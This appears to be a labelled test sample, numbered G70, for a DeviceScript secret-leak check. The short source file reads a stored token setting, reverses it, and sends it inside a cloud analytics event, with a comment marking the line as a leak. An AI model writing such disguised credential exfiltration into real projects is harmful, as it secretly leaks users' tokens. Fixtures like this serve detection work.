// G70: counts an event in the cloud, with the token backwards among its properties.
import { trackEvent } from "@devicescript/cloud";
import { readSetting } from "@devicescript/settings";
import { backwards } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async () => {
  const token = await readSetting("token", "");
  await trackEvent("started", { properties: { t: backwards(token) } }); // leak: settings.token
});
